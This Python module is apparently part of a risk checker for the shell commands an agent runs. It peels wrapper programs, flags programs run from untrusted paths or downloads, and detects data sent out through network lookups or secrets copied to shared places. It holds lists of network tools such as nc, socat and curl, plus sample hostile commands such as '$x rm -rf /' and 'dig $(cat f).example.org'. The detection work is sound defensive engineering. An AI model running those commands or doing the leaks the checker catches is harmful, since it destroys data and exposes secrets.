"""Judge one invocation: peel its wrappers in a loop, then apply its program's handler and table."""

from __future__ import annotations

import importlib
import re
from collections.abc import Callable
from typing import TYPE_CHECKING

from agent.risk import shell_builtins
from agent.risk.invocation import Invocation, Output
from agent.risk.knowledge_store import Program
from agent.risk.knowledge_store import program as find_program
from agent.risk.options import Args, split_args
from agent.risk.outputs import output_of
from agent.risk.scopes import absolute
from agent.risk.tables import apply_table, may_be_command
from agent.risk.ways_out import judge_ways_out
from agent.risk.words import UNKNOWN, Word

if TYPE_CHECKING:
    from agent.risk.walk import Walker

MAX_WRAPPERS = 5_000
_TRUSTED = frozenset(
    (
        "/bin",
        "/usr/bin",
        "/sbin",
        "/usr/sbin",
        "/usr/local/bin",
        "/usr/local/sbin",
        "/opt/homebrew/bin",
        "/usr/bin/env",
        "/snap/bin",
    )
)
_NETWORKED = frozenset(
    (
        "ping",
        "telnet",
        "ssh",
        "http",
        "aria2c",
        "mosquitto_pub",
        "nmap",
        "wget",
        "curl",
        "nc",
        "scp",
        "socat",
        "mail",
        "mosquitto_sub",
    )
)
_BY_NAME = frozenset(("getent", "xdg-open", "open", "gio-open", "firefox", "chromium", "google-chrome", "w3m", "lynx", "links", "elinks",
                      "browsh", "git", "ssh-keyscan", "resolvectl", "systemd-resolve"))  # fmt: skip
_FROM_FILES = ("file", "input")
_LOOKS_AT_WORDS = frozenset(
    ("xargs", "parallel", "ssh", "watch", "find", "git", "env")
)  # these read all words of what they wrap
_COPIERS = frozenset(("cp", "mv", "tar", "zip", "install", "rsync", "dd", "cpio", "ffmpeg"))
Handler = Callable[["Walker", Invocation, Program, Args], "Output | Invocation | None"]
_handlers: dict[str, Handler] = {}


def handler(path: str) -> Handler:
    """The function `module:name` of this package, imported when first met."""
    found = _handlers.get(path)
    if found is None:
        module, _, name = path.partition(":")
        found = _handlers[path] = getattr(importlib.import_module(f"agent.risk.{module}"), name)
    return found


def judge(walker: Walker, invocation: Invocation) -> Output:
    """Everything about one program; its output, as far as it is known."""
    outer = walker.programs.current
    try:
        return peel(walker, invocation)
    finally:
        walker.programs.current = outer


def peel(walker: Walker, invocation: Invocation) -> Output:
    """`judge`, for a program and each one that it wraps."""
    for _ in range(MAX_WRAPPERS):
        walker.programs.begin(invocation)
        name = program_name(walker, invocation)
        if name is None:
            return None, invocation.words[0].taint or "cmd"
        result = shell_builtins.run_builtin(walker, name, invocation)
        if result is not None:
            return result
        if walker.session is not None:
            walker.session.judge_program(walker, name, invocation)
        judge_ways_out(walker, name, invocation)
        table = find_program(name)
        if table is None:
            if walker.session is not None:
                walker.session.unknown(walker, invocation)
            unknown_program(walker, invocation)
            return None, invocation.stdin[1] if invocation.stdin else ""
        inner = apply(walker, invocation, table)
        if not isinstance(inner, Invocation):
            return inner
        if not inner.words:
            return None, ""
        invocation = inner
    walker.add("run-opaque", [], invocation.place, reason="is wrapped more often than can be followed")
    return None, ""


def program_name(walker: Walker, invocation: Invocation) -> str | None:
    """The name to look up; None where the program cannot be known (a finding has been added)."""
    word = invocation.words[0]
    text = word.text
    if UNKNOWN in text:
        judge_unknown_name(walker, invocation, word)
        return None
    base = text
    if "/" in text:
        folder, _, base = text.rpartition("/")
        if word.glob:
            walker.add(
                "run-opaque", [word], word_place(word, invocation), reason="names its program by a wildcard: {targets}"
            )
            base = _guess(base) or base
        elif folder not in _TRUSTED:
            fetched = absolute(text, invocation.cwd) in walker.downloads
            walker.add(
                "run-remote" if fetched else "run-unknown",
                [word],
                word_place(word, invocation),
                rule="run.fetched" if fetched else "run.path",
                reason="" if fetched else "runs the file {targets}",
            )
            written = walker.files.read(word, invocation.cwd)
            if written is not None:
                walker.script(written[0] or "", invocation.place, invocation, invocation.stdin)
            if find_program(base) is None:
                return None
    elif word.glob:
        walker.add(
            "run-opaque", [word], word_place(word, invocation), reason="names its program by a wildcard: {targets}"
        )
        return None
    elif walker.state.path_changed and text not in shell_builtins._BUILTINS:
        walker.add("run-unknown", [word], word_place(word, invocation), rule="run.path-changed")
    if find_program(base) is None and base.lower() != base and find_program(base.lower()) is not None:
        walker.add(
            "run-unknown",
            [word],
            word_place(word, invocation),
            reason="runs {targets}, which is not the usual spelling",
        )
        return base.lower()
    return base


def _guess(pattern: str) -> str | None:
    """A dangerous program that a globbed name could mean."""
    import fnmatch

    for name in ("rm", "dd", "sh", "bash", "cat", "nc", "chmod", "mv", "python3", "curl", "wget"):
        if fnmatch.fnmatchcase(name, pattern):
            return name
    return None


def judge_unknown_name(walker: Walker, invocation: Invocation, word: Word) -> None:
    if "net" in word.taint:
        walker.add("run-remote", [word], invocation.place)
    elif "opaque" in word.taint:
        walker.add("run-decoded", [word], invocation.place)
    else:
        walker.add(
            "run-opaque", [word], invocation.place, reason="runs a program whose name is not known before it runs"
        )
    for index, following in enumerate(invocation.words[1:], 1):  # `$x rm -rf /`: the rest may be the command
        if find_program(following.text) is not None and index < 4 and following.text not in ("test", "install", "set"):
            judge(walker, invocation.inner(invocation.words[index:], "unknown"))
            break


def word_place(word: Word, invocation: Invocation) -> tuple[int, int]:
    return (word.start, word.end) if word.end > word.start else invocation.place


def unknown_program(walker: Walker, invocation: Invocation) -> None:
    word = invocation.words[0]
    kind = "run" if "/" in word.text else "run-unknown"
    if len(invocation.words) > 1 and len(invocation.words) == 2 and invocation.words[1].text in ("--version", "--help"):
        return
    walker.add(kind, [word], word_place(word, invocation), rule="run.unknown")
    for index in range(1, min(len(invocation.words) - 1, 6)):
        if may_be_command(invocation.words[index]):
            walker.suspect(invocation.words[index:], invocation)
            break


def apply(walker: Walker, invocation: Invocation, table: Program) -> Output | Invocation:
    """A known program: help and dry runs, then its handler, its cases, its operands."""
    words = invocation.words[1:]
    walker.work.spend(len(words) * (1 if table.name in _LOOKS_AT_WORDS else 0.015 if table.style == "posix" else 0.4))
    args = split_args(words, table)
    if words and len(words) == 1 and words[0].text in ("--help", "--version") and not table.wrap:
        return None, ""
    before = len(walker.findings)
    judge_sent_words(walker, invocation, table)
    if table.handler:
        result = handler(table.handler)(walker, invocation, table, args)
        if result is not None:
            if table.name in _COPIERS:
                secrets_stored(walker, invocation, before)
            return result
    if table.dry and not args.names.isdisjoint(table.dry):
        return output_of(walker, invocation, table, args)
    apply_table(walker, invocation, table, args)
    if table.name in _COPIERS:
        secrets_stored(walker, invocation, before)
    return output_of(walker, invocation, table, args)


def judge_sent_words(walker: Walker, invocation: Invocation, table: Program) -> None:
    """Data in an address or a name leaves the machine when it is looked up: `dig $(cat f).example.org`."""
    program = invocation.words[0].text.rpartition("/")[2]
    if table.name not in _NETWORKED and program not in _BY_NAME:
        return
    words = invocation.words[1:]
    if program == "git":  # its other words stay here
        words = [word for word in words if "://" in word.text]
    if any("secret" in word.taint for word in words):
        walker.add("send-secret", [], invocation.place, invocation=invocation)
        return
    told = [word for word in words if _tells(word)]
    if told:
        reason = "tells the network what it read here, as a part of {targets}"
        walker.add("send", told, invocation.place, reason=reason, rule="send.name", invocation=invocation)


def _tells(word: Word) -> bool:
    """Whether a word that goes to the network holds what a command printed: of a file, or built into a name or address."""
    taints = word.taint.split()
    if "file" in taints:
        return True
    if word.known or not {"cmd", "input", "found", "listed"}.intersection(taints):
        return False
    return re.search(r"\0[\w-]*\.[\w.-]*[A-Za-z]|://[^\0]*/[^\0]*\0|://\0\.", word.text) is not None


def secrets_stored(walker: Walker, invocation: Invocation, before: int) -> None:
    """A copy of a secret in a place that others read is a secret given away."""
    effects = [finding.effect for finding in walker.findings[before:] if finding.effect is not None]
    if not any(effect.kind == "secret" for effect in effects):
        return
    for effect in effects:
        if effect.kind not in ("write", "copy-to"):
            continue
        scopes = walker.rater.scopes
        shared = any(scopes.public(absolute(text, invocation.cwd)) for text in effect.targets)
        if shared or effect.scope in ("temp", "outside", "users", "system", "remote"):
            targets = [Word(text, *invocation.place) for text in effect.targets]
            reason = "stores secrets in {targets}"
            walker.add("send-secret", targets, invocation.place, reason=reason, rule="secret.stored")
            return
